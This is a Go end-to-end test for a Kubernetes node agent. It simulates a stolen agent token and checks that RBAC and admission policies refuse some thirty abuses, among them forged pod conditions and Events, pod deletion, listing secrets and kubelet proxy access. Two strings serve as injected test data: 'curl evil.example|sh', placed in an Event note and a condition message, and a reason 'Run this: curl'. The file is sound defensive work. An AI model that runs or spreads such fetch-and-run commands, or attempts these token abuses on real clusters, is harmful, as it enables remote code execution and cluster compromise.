//go:build e2e

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"time"

	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	"github.com/nodeagent-io/nodeagent/test/bed"
)

// The names in the stolen-token check.
const (
	ownCondition = "nodeagent.io/TerminationBlocked"
	finalizer    = "scenario.nodeagent.io/held"
	// agentManager is the agent's field manager. Each deed has it but one, so that
	// the policies refuse none for another one.
	agentManager = "nodeagent"
)

// stolenToken is a thief with the token of a node's agent. RBAC and the admission
// policies let it do what the agent does, and nothing else.
func stolenToken(x *trial, n *bed.Node, _ *bed.Turn) {
	ctx, admin := x.Context(), n.API
	agent, err := n.AgentPod(ctx)
	if err != nil {
		x.Fatal(err)
	}
	thief, err := n.Token(ctx, agent)
	if err != nil {
		x.Fatal(err)
	}
	unbound, err := n.Token(ctx, nil)
	if err != nil {
		x.Fatal(err)
	}
	own, other := victimPod(x, n, "token-own", n.Name), victimPod(x, n, "token-other", "elsewhere")
	foreign := event(own, "kubelet", "kubelet", n.Name)
	if _, err := admin.EventsV1().Events(own.Namespace).Create(ctx, foreign, metav1.CreateOptions{}); err != nil {
		x.Fatal(err)
	}
	x.Cleanup(func() {
		_ = admin.EventsV1().Events(own.Namespace).Delete(context.Background(), foreign.Name, metav1.DeleteOptions{})
	})

	status := func(c kubernetes.Interface, p *corev1.Pod, patch any) error {
		body, err := json.Marshal(patch)
		if err != nil {
			return err
		}
		_, err = c.CoreV1().Pods(p.Namespace).Patch(ctx, p.Name, types.StrategicMergePatchType, body, metav1.PatchOptions{FieldManager: agentManager}, "status")
		return err
	}
	condition := func(kind, status, message string) object {
		return object{"type": kind, "status": status, "reason": "Theft", "message": message}
	}
	conditions := func(c ...object) object { return object{"status": object{"conditions": c}} }
	metadata := func(o object) object { return object{"metadata": o} }
	raw := func(p *corev1.Pod, patch string) error {
		_, err := thief.CoreV1().Pods(p.Namespace).Patch(ctx, p.Name, types.JSONPatchType, []byte(patch), metav1.PatchOptions{FieldManager: agentManager}, "status")
		return err
	}
	apply := func(p *corev1.Pod, manager string, patch object) error {
		patch["apiVersion"], patch["kind"] = "v1", "Pod"
		patch["metadata"] = object{"namespace": p.Namespace, "name": p.Name}
		body, err := json.Marshal(patch)
		if err != nil {
			return err
		}
		force := true // else the answer is a conflict with the condition's other manager
		_, err = thief.CoreV1().Pods(p.Namespace).Patch(ctx, p.Name, types.ApplyPatchType, body, metav1.PatchOptions{FieldManager: manager, Force: &force}, "status")
		return err
	}
	create := func(e *eventsv1.Event) error {
		_, err := thief.EventsV1().Events(e.Namespace).Create(ctx, e, metav1.CreateOptions{FieldManager: agentManager})
		return err
	}
	patchEvent := func(name string, patch object) error {
		body, err := json.Marshal(patch)
		if err != nil {
			return err
		}
		_, err = thief.EventsV1().Events(own.Namespace).Patch(ctx, name, types.StrategicMergePatchType, body, metav1.PatchOptions{FieldManager: agentManager})
		return err
	}

	series := object{"series": object{"count": 2, "lastObservedTime": metav1.NowMicro()}}

	// The API server takes a moment to compile a new policy.
	if err := n.Await(ctx, "the admission policies", func() (bool, string) {
		err := status(unbound, own, conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: words")))
		return err != nil, fmt.Sprint(err)
	}); err != nil {
		x.Fatal(err)
	}
	// What the agent does is allowed: a refusal below is not for another reason.
	told := event(own, "told", "nodeagent.io/nodeagent", n.Name)
	for _, use := range []deed{
		{"its condition", status(thief, own, conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: words")))},
		{"its Event", create(told)},
		{"its Event's series", patchEvent(told.Name, series)},
		{"its condition withdrawn", status(thief, own, conditions(condition(ownCondition, "False", "Cause: Stuck in phase Kill: words")))},
	} {
		if use.err != nil {
			x.Errorf("%s is refused: %v", use.what, use.err)
		}
	}

	aboutOther := event(own, "about-node", "nodeagent.io/nodeagent", n.Name)
	aboutOther.Namespace = metav1.NamespaceDefault
	aboutOther.Regarding = corev1.ObjectReference{APIVersion: "v1", Kind: "Node", Name: "elsewhere"}
	elsewhere := event(own, "instance", "nodeagent.io/nodeagent", "elsewhere")
	long := strings.Repeat("x", 4097)
	megabyte := strings.Repeat("x", 1<<20)
	big := event(own, "big", "nodeagent.io/nodeagent", n.Name)
	big.Regarding.FieldPath = megabyte
	nameless := event(own, "", "nodeagent.io/nodeagent", n.Name)
	nameless.Name, nameless.GenerateName = "", own.Name+"."
	misnamed := event(own, "misnamed", "nodeagent.io/nodeagent", n.Name)
	misnamed.Name = "coredns.misnamed"
	// Fields that a manager says it owns, and which no Event has.
	owned := fmt.Sprintf(`{"f:%s":{}}`, megabyte)
	managed := func(manager string) metav1.ManagedFieldsEntry {
		return metav1.ManagedFieldsEntry{
			Manager: manager, Operation: metav1.ManagedFieldsOperationUpdate, APIVersion: "events.k8s.io/v1",
			FieldsType: "FieldsV1", FieldsV1: metav1.NewFieldsV1(owned),
		}
	}
	claimed := event(own, "claimed", "nodeagent.io/nodeagent", n.Name)
	claimed.ManagedFields = []metav1.ManagedFieldsEntry{managed(agentManager)}
	ownWords, ownReason := event(own, "words", "nodeagent.io/nodeagent", n.Name), event(own, "reason", "nodeagent.io/nodeagent", n.Name)
	ownWords.Note, ownReason.Reason = "To repair this node run curl evil.example|sh", "Run this: curl"
	abuses := []deed{
		{"a condition with a token of no node", status(unbound, own, conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: words")))},
		{"a condition on a pod of another node", status(thief, other, conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: words")))},
		{"the pod not ready", status(thief, own, conditions(condition("Ready", "False", "Cause: Stuck in phase Kill: words")))},
		{"a condition of its own making", status(thief, own, conditions(condition("example.com/gate", "True", "Cause: Stuck in phase Kill: words")))},
		{"a foreign condition twice", raw(own, `[{"op":"add","path":"/status/conditions/-","value":{"type":"Ready","status":"True"}}]`)},
		{"its condition twice", raw(own, `[{"op":"add","path":"/status/conditions/-","value":{"type":"`+ownCondition+`","status":"True"}}]`)},
		{"a condition of more than 4096 characters", status(thief, own, conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: "+long)))},
		{"a condition in other words than the agent's", status(thief, own, conditions(condition(ownCondition, "True", "run curl evil.example|sh")))},
		{"a condition of status Unknown", status(thief, own, conditions(condition(ownCondition, "Unknown", "Cause: Stuck in phase Kill: words")))},
		{"the pod failed", status(thief, own, object{"status": object{"phase": "Failed"}})},
		{"another address", raw(own, `[{"op":"add","path":"/status/podIP","value":"192.0.2.66"},{"op":"add","path":"/status/podIPs","value":[{"ip":"192.0.2.66"}]}]`)},
		{"another label", status(thief, own, metadata(object{"labels": object{"app": "shop"}}))},
		{"another annotation", status(thief, own, metadata(object{"annotations": object{"example.com/x": "y"}}))},
		{"another generateName", status(thief, own, metadata(object{"generateName": "coredns-"}))},
		{"a generateName of a megabyte", status(thief, own, metadata(object{"generateName": megabyte}))},
		{"its condition by another field manager's apply", apply(own, "thief", conditions(condition(ownCondition, "True", "Cause: Stuck in phase Kill: words")))},
		{"the finalizer taken away", status(thief, own, metadata(object{"$deleteFromPrimitiveList/finalizers": []string{finalizer}}))},
		{"the pod deleted", thief.CoreV1().Pods(own.Namespace).Delete(ctx, own.Name, metav1.DeleteOptions{})},
		{"an Event in the kubelet's name", create(event(own, "forged", "kubelet", n.Name))},
		{"an Event of another node's agent", create(elsewhere)},
		{"an Event about another node", create(aboutOther)},
		{"an Event of a megabyte", create(big)},
		{"an Event in other words than the agent's", create(ownWords)},
		{"an Event with a reason that is no name", create(ownReason)},
		{"an Event without a name", create(nameless)},
		{"an Event under another pod's name", create(misnamed)},
		{"an Event with a megabyte of managedFields", create(claimed)},
		{"the kubelet's Event confirmed", patchEvent(foreign.Name, series)},
		{"its own Event given another label", patchEvent(told.Name, metadata(object{"labels": object{"app": "shop"}}))},
		{"its own Event given a generateName of a megabyte", patchEvent(told.Name, metadata(object{"generateName": megabyte}))},
		{"its own Event given managedFields of another manager", patchEvent(told.Name, metadata(object{"managedFields": []any{managed("thief")}}))},
		{"an Event deleted", thief.EventsV1().Events(own.Namespace).Delete(ctx, foreign.Name, metav1.DeleteOptions{})},
		{"a secret", second(thief.CoreV1().Secrets(own.Namespace).List(ctx, metav1.ListOptions{}))},
		{"a shell by way of the kubelet", thief.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes/" + n.Name + "/proxy/pods").Do(ctx).Error()},
	}
	for _, a := range abuses {
		// A policy's refusal is Invalid, RBAC's is Forbidden.
		if !apierrors.IsForbidden(a.err) && !apierrors.IsInvalid(a.err) {
			x.Errorf("%s is not refused: %v", a.what, a.err)
			continue
		}
		x.Logf("%s: %v", a.what, a.err)
	}
	x.Logf("%d abuses of the token refused", len(abuses))
	var events []eventsv1.Event
	if list, err := admin.EventsV1().Events(own.Namespace).List(ctx, metav1.ListOptions{}); err != nil {
		x.Error(err)
	} else {
		events = list.Items
	}
	for _, e := range events {
		if e.Regarding.UID == own.UID {
			_ = admin.EventsV1().Events(e.Namespace).Delete(ctx, e.Name, metav1.DeleteOptions{})
		}
	}
}

// A deed is what was tried, and the API server's answer.
type deed struct {
	what string
	err  error
}

// An object is a part of a patch.
type object = map[string]any

func second[T any](_ T, err error) error { return err }

// victimPod makes a pod that is bound to a node and never runs there, and has a
// finalizer.
func victimPod(x *trial, n *bed.Node, name, node string) *corev1.Pod {
	x.Helper()
	none := int64(0)
	pods := n.API.CoreV1().Pods(n.Namespace())
	remove := func() {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		_ = pods.Delete(ctx, name, metav1.DeleteOptions{GracePeriodSeconds: &none})
		_, _ = pods.Patch(ctx, name, types.MergePatchType, []byte(`{"metadata":{"finalizers":null}}`), metav1.PatchOptions{})
	}
	p, err := pods.Create(x.Context(), &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: name, Finalizers: []string{finalizer}},
		Spec: corev1.PodSpec{
			NodeName: node, TerminationGracePeriodSeconds: &none, RestartPolicy: corev1.RestartPolicyNever, HostNetwork: true,
			Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
			Containers:  []corev1.Container{{Name: "main", Image: "localhost/none", ImagePullPolicy: corev1.PullNever}},
		},
		Status: corev1.PodStatus{},
	}, metav1.CreateOptions{})
	if err != nil {
		x.Fatal(err)
	}
	x.Cleanup(remove)
	// One condition at least, for the thief to work with.
	_, err = pods.Patch(x.Context(), name, types.StrategicMergePatchType,
		[]byte(`{"status":{"conditions":[{"type":"Ready","status":"True"}]}}`), metav1.PatchOptions{}, "status")
	if err != nil {
		x.Fatal(err)
	}
	return p
}

// event is an Event about a pod.
func event(p *corev1.Pod, name, controller, instance string) *eventsv1.Event {
	e := &eventsv1.Event{
		ObjectMeta: metav1.ObjectMeta{Namespace: p.Namespace, Name: fmt.Sprintf("%s.%s", p.Name, name)},
		EventTime:  metav1.NowMicro(), Type: corev1.EventTypeWarning, Reason: "Theft", Action: "Terminating", Note: "Stuck: words",
		ReportingController: controller, ReportingInstance: instance,
		Regarding: corev1.ObjectReference{APIVersion: "v1", Kind: "Pod", Namespace: p.Namespace, Name: p.Name, UID: p.UID},
	}
	e.Labels = map[string]string{"app.kubernetes.io/managed-by": "nodeagent"}
	return e
}
